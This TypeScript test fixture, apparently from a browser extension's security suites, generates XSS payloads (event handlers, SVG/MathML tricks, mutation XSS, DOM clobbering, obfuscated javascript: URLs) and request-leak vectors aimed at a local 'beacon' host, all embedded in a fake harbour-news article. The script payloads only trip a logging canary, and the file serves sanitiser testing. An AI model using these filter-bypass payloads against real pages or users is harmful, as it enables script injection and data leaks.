/**
 * Hostile HTML written for Lede's attack suites: each payload tries to run script or to make a request when an
 * article that carries it is shown in the popup, saved, or read back in the library's reader view.
 *
 * Every payload that would run script calls `PWN('<id>')`, which logs `PWNED-<id>` and counts on `window`: a
 * canary the suites look for in every extension page. Every payload that would fetch points at the beacon origin
 * (a local server standing in for a third-party host) with its own id in the path, so a leak names its payload.
 */
export interface Payload {
  id: string;
  category: 'handler' | 'svg-mathml' | 'mutation' | 'clobbering' | 'js-url' | 'fetch';
  html: string;
}

const run = (id: string) => `console.log('PWNED-${id}');window.__pwned=(window.__pwned||0)+1`;

export function payloads(beacon: string): Payload[] {
  const out: Payload[] = [];
  const add = (category: Payload['category'], make: (js: string, url: string) => string) => {
    const id = `${category}-${out.length}`;
    out.push({ id, category, html: make(run(id), `${beacon}/leak/${id}`) });
  };

  // Event handlers on elements that fire them without a user (load, error, focus, toggle, animation).
  const handlerHosts = [
    (js: string) => `<img src="x:" onerror="${js}">`,
    (js: string) => `<img src onerror="${js}" alt="">`,
    (js: string) => `<svg onload="${js}"></svg>`,
    (js: string) => `<body onload="${js}">`,
    (js: string) => `<details open ontoggle="${js}"><summary>More</summary></details>`,
    (js: string) => `<video src="x:" onerror="${js}"></video>`,
    (js: string) => `<audio src="x:" onerror="${js}"></audio>`,
    (js: string) => `<input autofocus onfocus="${js}">`,
    (js: string) => `<textarea autofocus onfocus="${js}"></textarea>`,
    (js: string) => `<select autofocus onfocus="${js}"></select>`,
    (js: string) => `<iframe onload="${js}"></iframe>`,
    (js: string) => `<object data="x:" onerror="${js}"></object>`,
    (js: string) => `<marquee onstart="${js}">news</marquee>`,
    (js: string) => `<div style="animation:spin 1s" onanimationstart="${js}">spin</div>`,
    (js: string) => `<p tabindex="1" autofocus onfocusin="${js}">focus</p>`,
    (js: string) => `<div onpointerenter="${js}" onmouseover="${js}" style="position:fixed;inset:0">cover</div>`,
    (js: string) => `<style onload="${js}">p{}</style>`,
    (js: string) => `<link rel="stylesheet" href="x:" onerror="${js}">`,
    (js: string) => `<img src="x:" OnErRoR="${js}">`,
    (js: string) => `<img src="x:" onerror  =  '${js}'>`,
    (js: string) => `<img/src="x:"/onerror="${js}">`,
    (js: string) => `<picture><source srcset="x:"><img src="x:" onerror="${js}"></picture>`,
    (js: string) => `<track src="x:" onerror="${js}">`,
    (js: string) => `<a href="https://example.org/" onclick="${js}" onauxclick="${js}">a link</a>`,
  ];
  for (const host of handlerHosts) add('handler', (js) => host(js));

  // SVG and MathML: foreign content, scripts inside it, animations, xlink.
  const foreign = [
    (js: string) => `<svg><script>${js}</script></svg>`,
    (js: string) => `<svg><script href="data:text/javascript,${encodeURIComponent(js)}"></script></svg>`,
    (js: string) => `<svg><a xlink:href="javascript:${js}"><text x="10" y="20">svg link</text></a></svg>`,
    (js: string) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`,
    (js: string) => `<svg><set attributeName="onload" to="${js}"/></svg>`,
    (js: string) => `<svg><foreignObject><img src="x:" onerror="${js}"></foreignObject></svg>`,
    (js: string) => `<svg><style><img src="x:" onerror="${js}"></style></svg>`,
    (js: string) => `<svg><desc><img src="x:" onerror="${js}"></desc></svg>`,
    (js: string) => `<math><mtext><img src="x:" onerror="${js}"></mtext></math>`,
    (js: string) => `<math><mi xlink:href="javascript:${js}">m</mi></math>`,
    (js: string) => `<math href="javascript:${js}"><mi>click</mi></math>`,
    (js: string) => `<math><annotation-xml encoding="text/html"><img src="x:" onerror="${js}"></annotation-xml></math>`,
    (js: string) => `<svg><iframe src="x:" onload="${js}"></iframe></svg>`,
    (js: string) => `<svg><image href="x:" onerror="${js}"/></svg>`,
  ];
  for (const f of foreign) add('svg-mathml', (js) => f(js));

  // Mutation XSS: markup that serialises and re-parses into something else.
  const mutations = [
    (js: string) => `<noscript><p title="</noscript><img src=x: onerror=${JSON.stringify(js)}>"></noscript>`,
    (js: string) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${JSON.stringify(js)}>`,
    (js: string) => `<svg></p><style><a id="</style><img src=x: onerror=${JSON.stringify(js)}>">`,
    (js: string) => `<math><mtext><table><mglyph><style><img src=x: onerror=${JSON.stringify(js)}>`,
    (js: string) => `<template><style></template><img src=x: onerror=${JSON.stringify(js)}>`,
    (js: string) => `<select><template><img src=x: onerror=${JSON.stringify(js)}></template></select>`,
    (js: string) => `<!--><img src=x: onerror=${JSON.stringify(js)}>-->`,
    (js: string) => `<![CDATA[><img src=x: onerror=${JSON.stringify(js)}>]]>`,
    (js: string) => `<title><img src=x: onerror=${JSON.stringify(js)}></title>`,
    (js: string) => `<style><style/><img src=x: onerror=${JSON.stringify(js)}>`,
    (js: string) => `<xmp><img src=x: onerror=${JSON.stringify(js)}></xmp>`,
    (js: string) => `<iframe srcdoc="<img src=x: onerror=${js.replaceAll("'", '&#39;')}>"></iframe>`,
    (js: string) => `<textarea></textarea><img src=x: onerror=${JSON.stringify(js)}>`,
    (js: string) => `<a title="a&#x22; onmouseover=&#x22;${js}">decoded quote</a>`,
  ];
  for (const m of mutations) add('mutation', (js) => m(js));

  // DOM clobbering: named elements that shadow what a page's code reads.
  const clobbers = [
    () => `<img name="getElementById"><img name="getElementById">`,
    () => `<form id="document"><input name="cookie" value="clobbered"></form>`,
    (js: string) => `<a id="location" href="javascript:${js}">location</a>`,
    () => `<form name="body"><input name="appendChild"></form>`,
    () => `<img name="currentScript" src="x:">`,
    () => `<a id="defaultView"></a><a id="defaultView" name="chrome"></a>`,
    (js: string) => `<a id="browser"></a><a id="browser" name="runtime" href="javascript:${js}">rt</a>`,
    () => `<form id="__proto__"><input name="polluted"></form>`,
    () => `<iframe name="chrome"></iframe><iframe name="browser"></iframe>`,
    () => `<div id="app">fake app</div><div id="app"></div>`,
    () => `<img name="querySelector"><form name="createElement"></form>`,
    () => `<a id="bodyRef" name="current" href="x:">ref</a>`,
  ];
  for (const c of clobbers) add('clobbering', (js) => c(js));

  // javascript: and other script-bearing URLs.
  const urls = [
    (js: string) => `<a href="javascript:${js}">plain</a>`,
    (js: string) => `<a href="JaVaScRiPt:${js}">case</a>`,
    (js: string) => `<a href="&#106;avascript:${js}">entity</a>`,
    (js: string) => `<a href="java&#9;script:${js}">tab</a>`,
    (js: string) => `<a href=" &#14; javascript:${js}">space</a>`,
    (js: string) => `<a href="javascript&colon;${js}">colon</a>`,
    (js: string) => `<a href="data:text/html,<script>${js}</script>">data</a>`,
    (js: string) => `<a href="vbscript:${js}">vb</a>`,
    (js: string) => `<iframe src="javascript:${js}"></iframe>`,
    (js: string) => `<form action="javascript:${js}"><button>send</button></form>`,
    (js: string) => `<object data="javascript:${js}"></object>`,
    (js: string) => `<embed src="javascript:${js}">`,
    (js: string) => `<base href="javascript:${js}//"><a href="x">rel</a>`,
    (js: string) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
    (js: string) => `<a href="\u0001javascript:${js}">ctl</a>`,
    (js: string) => `<button formaction="javascript:${js}">fa</button>`,
  ];
  for (const u of urls) add('js-url', (js) => u(js));

  // Everything that fetches: a request to the beacon while reading is a leak.
  const fetchers = [
    (u: string) => `<img src="${u}" alt="a photo">`,
    (u: string) => `<img srcset="${u} 1x, ${u}-2 2x" alt="srcset">`,
    (u: string) => `<img src="x:" lowsrc="${u}" dynsrc="${u}">`,
    (u: string) => `<img data-src="${u}" loading="lazy" src="${u}-lazy">`,
    (u: string) => `<picture><source srcset="${u}" type="image/webp"><img src="${u}-fallback" alt=""></picture>`,
    (u: string) => `<video poster="${u}-poster" src="${u}" autoplay muted></video>`,
    (u: string) => `<video><source src="${u}"><track kind="captions" src="${u}-vtt"></video>`,
    (u: string) => `<audio src="${u}" autoplay></audio>`,
    (u: string) => `<div style="background:url(${u})">bg</div>`,
    (u: string) => `<p style="background-image:url('${u}')">bg-image</p>`,
    (u: string) => `<p style="list-style-image:url(${u});cursor:url(${u}-cur),auto">list</p>`,
    (u: string) => `<div style="mask-image:url(${u});border-image:url(${u}-border) 30">mask</div>`,
    (u: string) => `<style>@import url(${u});</style>`,
    (u: string) => `<style>p{background:url(${u})}@font-face{font-family:x;src:url(${u}-font)}</style>`,
    (u: string) => `<link rel="stylesheet" href="${u}">`,
    (u: string) => `<link rel="preload" as="image" href="${u}">`,
    (u: string) => `<link rel="prefetch" href="${u}">`,
    (u: string) => `<table background="${u}"><tr><td background="${u}-td">cell</td></tr></table>`,
    (u: string) => `<body background="${u}">`,
    (u: string) => `<input type="image" src="${u}">`,
    (u: string) => `<object data="${u}"></object>`,
    (u: string) => `<embed src="${u}">`,
    (u: string) => `<iframe src="${u}"></iframe>`,
    (u: string) => `<svg><image href="${u}"/></svg>`,
    (u: string) => `<svg><use href="${u}#x"/></svg>`,
    (u: string) => `<svg><filter><feImage href="${u}"/></filter></svg>`,
    (u: string) => `<meta http-equiv="refresh" content="0;url=${u}">`,
    (u: string) => `<base href="${u}/"><img src="relative.png" alt="">`,
    (u: string) => `<a href="https://example.org/" ping="${u}">ping</a>`,
    (u: string) => `<frameset><frame src="${u}"></frameset>`,
    (u: string) => `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>`)}">`,
    (u: string) => `<portal src="${u}"></portal>`,
  ];
  for (const f of fetchers) add('fetch', (_js, url) => f(url));
  return out;
}

const PARAGRAPHS = [
  'The harbour authority approved a plan on Tuesday to electrify the ferry quay, replacing the diesel generators that have powered moored ships since the nineteen-seventies.',
  'Engineers expect the first shore-power connection to open next spring, with the remaining berths following over two summers as the grid link is reinforced.',
  'The project will cost about forty million euros, most of it from a regional climate fund, and the ferry operators will pay a connection fee for each call.',
  'Residents of the old town have complained for years about the hum and the fumes of ships running their engines overnight at the quay below their windows.',
  'The harbour master said the change would cut the port\'s emissions by a fifth and make the quay quieter at night, when most ferries wait for the morning crossing.',
  'Opposition councillors asked whether the grid could carry the load in winter, when heating demand in the town peaks and the wind farms offshore are often becalmed.',
  'The utility replied that a new substation, already under construction north of the harbour, was designed with the quay in mind and would be finished first.',
  'Several other ports along the coast are watching the scheme, and two have asked the authority to share its tender documents with their own engineers.',
];

/** A realistic article page (headline, byline, paragraphs written for these suites) carrying the payloads. */
export function hostileArticle(title: string, items: Payload[]): string {
  const body: string[] = [];
  items.forEach((p, i) => {
    body.push(`<p>${PARAGRAPHS[i % PARAGRAPHS.length]} ${p.html}</p>`);
  });
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<meta property="og:title" content="${title}"></head><body>
<header><nav><a href="/">Home</a> <a href="/news">News</a></nav></header>
<main><article><h1>${title}</h1><p class="byline">By A. Reporter</p>
${PARAGRAPHS.map((p) => `<p>${p}</p>`).join('\n')}
${body.join('\n')}
</article></main><footer><p>Harbour Times</p></footer></body></html>`;
}
